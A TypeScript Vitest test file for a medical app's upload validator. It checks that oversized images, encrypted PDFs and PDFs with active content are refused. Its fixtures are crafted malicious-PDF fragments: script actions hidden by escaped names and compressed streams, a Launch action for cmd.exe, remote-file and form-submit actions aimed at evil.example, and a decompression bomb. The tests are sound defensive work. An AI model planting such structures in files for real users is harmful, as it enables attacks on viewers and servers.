import { setFlagsFromString } from "node:v8";
import { deflateSync } from "node:zlib";
import { fileErrors, fileLimits } from "@medisense/contract/files";
import { expect, test } from "vitest";
import { DomainError } from "../domain-error.ts";
import { aHugePng, aJpeg, aPdf, aWebp } from "../testing/sample-files.ts";
import { acceptFile } from "./accept-file.ts";
import { createPdf } from "./create-pdf.ts";

/** Packs objects as newer writers do; `entries` go into the dictionary. */
function packed(
  objects: string | Buffer,
  entries = "/Filter/FlateDecode",
  pack: (raw: Buffer) => Buffer = deflateSync,
) {
  const body = pack(Buffer.from(objects)).toString("latin1");
  return `7 0 obj <</Type/ObjStm/N 1/First 4/Length ${body.length}${entries}>>stream\r\n${body}\nendstream endobj\n`;
}

const plain = (raw: Buffer) => raw;
const script = "<</S/JavaScript/JS(app.alert(1))>>";
const accepted = async (pdf: Buffer) => (await acceptFile(pdf)).bytes.equals(pdf);

async function refusalOf(bytes: Buffer) {
  const refusal: unknown = await acceptFile(bytes).catch((error: unknown) => error);
  return refusal instanceof DomainError ? refusal.definition : refusal;
}

test("[CONS-01] [MED-07] a picture of 20,000 by 20,000 pixels is refused, whatever its kind", async () => {
  const png = aHugePng();
  const jpeg = Buffer.from(aJpeg().bytes);
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc2, 0, 11]));
  jpeg.writeUInt16BE(20_000, frame + 5);
  jpeg.writeUInt16BE(20_000, frame + 7);
  const webp = Buffer.from(aWebp().bytes);
  webp.writeUIntLE(19_999, 24, 3);
  webp.writeUIntLE(19_999, 27, 3);
  for (const picture of [png, jpeg, webp]) expect(await refusalOf(picture)).toBe(fileErrors.tooManyPixels);

  png.writeUInt32BE(8160, 16);
  png.writeUInt32BE(6120, 20);
  expect(await acceptFile(png)).toMatchObject({ type: "image/png" });
});

test("[CONS-01] [MED-07] ordinary PDFs are accepted unchanged", async () => {
  expect(await accepted(aPdf())).toBe(true);
  expect(await accepted(await createPdf("Report", "Lab", (pdf) => pdf.text("Telmisartan (see /JavaScript)")))).toBe(
    true,
  );
  expect(await accepted(aPdf({ objects: packed("2 0 <</Type/Page/Contents 3 0 R>>") }))).toBe(true);
  expect(await accepted(aPdf({ objects: packed("2 0 <</Type/Page>>", "", plain) }))).toBe(true);
  const title = "3 0 obj <</Title(Objectives: /JavaScript (nested\\)))/OpenAction[1 0 R/Fit]>> endobj\n";
  expect(await accepted(aPdf({ objects: title }))).toBe(true);
  const pictures =
    "4 0 obj <</Subtype/Image/Filter/DCTDecode/Length 9>>stream\n /AA /JS /XFA /Encrypt \nendstream endobj\n";
  expect(await accepted(aPdf({ objects: pictures }))).toBe(true);
});

test("[CONS-01] a PDF padded with 10 MB of zeros is accepted by a server that has run for long", async () => {
  // V8 stops optimising regular expressions once a process has compiled many; a long run then overflowed their stack.
  setFlagsFromString("--no-regexp-optimization");
  try {
    expect(await accepted(Buffer.concat([aPdf(), Buffer.alloc(fileLimits.bytes - aPdf().length)]))).toBe(true);
  } finally {
    setFlagsFromString("--regexp-optimization");
  }
});

test.each([
  ["a script", `2 0 obj ${script} endobj\n`],
  ["a script behind an escaped name", "2 0 obj <</S/Java#53cript/#4aS(app.alert(1))>> endobj\n"],
  ["a script after a comment", `2 0 obj %(\n${script} endobj\n`],
  ["a script after an unbalanced string", `2 0 obj (\\() 3 0 obj ${script} endobj\n`],
  [
    "a script inside of the stream of another object",
    `2 0 obj <</Length 99>>stream\n3 0 obj ${script} endobj\nendstream endobj\n`,
  ],
  ["a script in compressed objects", packed(`2 0 ${script}`)],
  ["a script in compressed objects without a type", packed(`2 0 ${script}`).replace("/Type/ObjStm", "")],
  ["a script in packed objects that are not compressed", packed(`2 0 ${script}`, "", plain)],
  ["actions of its pages", "2 0 obj <</AA<</O 3 0 R>>>> endobj\n"],
  [
    "a script of a 3D scene",
    "2 0 obj <</Type/3D/Subtype/U3D/OnInstantiate 3 0 R/Length 1>>stream\nx\nendstream endobj\n",
  ],
  ["another file to open", "2 0 obj <</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>> endobj\n"],
  ["a sound to play", "2 0 obj <</S/Sound/Sound 3 0 R>>endobj\n"],
  ["a film to play", "2 0 obj <</Subtype/Movie/Movie 3 0 R>>endobj\n"],
  ["a program to start", "2 0 obj <</S/Launch/F(cmd.exe)>> endobj\n"],
  ["a file inside", "2 0 obj <</Type/EmbeddedFile/Length 1>>stream\nx\nendstream endobj\n"],
  ["an XFA form", packed("2 0 <</AcroForm<</XFA 3 0 R>>>>")],
  ["a form that sends itself", "2 0 obj <</S/SubmitForm/F(https://evil.example)>> endobj\n"],
])("[CONS-01] [MED-07] a PDF with %s is refused", async (_, objects) => {
  expect(await refusalOf(aPdf({ objects }))).toBe(fileErrors.pdfActive);
});

test("[CONS-01] [MED-07] an encrypted PDF is refused as locked, wherever it says so", async () => {
  expect(await refusalOf(aPdf({ trailer: "/Encrypt 5 0 R" }))).toBe(fileErrors.pdfLocked);
  expect(await refusalOf(aPdf({ trailer: "/#45ncrypt 5 0 R" }))).toBe(fileErrors.pdfLocked);
  const table = "6 0 obj <</Type/XRef/W[1 2 1]/Encrypt 5 0 R/Length 2>>stream\nxx\nendstream endobj\n";
  expect(await refusalOf(aPdf({ objects: table + packed("secret", "/Filter/FlateDecode", plain) }))).toBe(
    fileErrors.pdfLocked,
  );
});

test.each([
  [
    "a second filter",
    packed(`2 0 ${script}`, "/Filter[/FlateDecode/FlateDecode]", (raw) => deflateSync(deflateSync(raw))),
  ],
  ["a filter elsewhere", packed(`2 0 ${script}`, "/Filter 9 0 R")],
  ["an abbreviated filter", packed(`2 0 ${script}`, "/F/Fl")],
  ["a predictor", packed(`2 0 ${script}`, "/Filter/FlateDecode/DecodeParms<</Predictor 12>>")],
  ["damaged data", packed(`2 0 ${script}`, "/Filter/FlateDecode", plain)],
])(
  "[CONS-01] compressed objects with %s are refused, because viewers could read others in them",
  async (_, objects) => {
    expect(await refusalOf(aPdf({ objects }))).toBe(fileErrors.broken);
  },
);

test("[CONS-01] [MED-07] a PDF made to exhaust the server is refused", async () => {
  const bomb = packed(Buffer.alloc(64 * 1024 * 1024, " "));
  expect(bomb.length).toBeLessThan(100_000);
  expect(await refusalOf(aPdf({ objects: bomb }))).toBe(fileErrors.broken);
  expect(await refusalOf(aPdf({ objects: packed("2 0 <<>>").repeat(2001) }))).toBe(fileErrors.broken);
  expect(await refusalOf(aPdf({ objects: "obj (".repeat(200_000) }))).toBe(fileErrors.broken);
  const streams = (lineEnd: string) => `7 0 obj <</First 4>>stream${lineEnd}`.repeat(1000);
  // The first is searched for a line end, and the second read to its end, once for each of its streams.
  expect(await refusalOf(aPdf({ objects: streams("") + " ".repeat(4_000_000) }))).toBe(fileErrors.broken);
  expect(await refusalOf(aPdf({ objects: streams("\n") + "x".repeat(4_000_000) }))).toBe(fileErrors.broken);
});
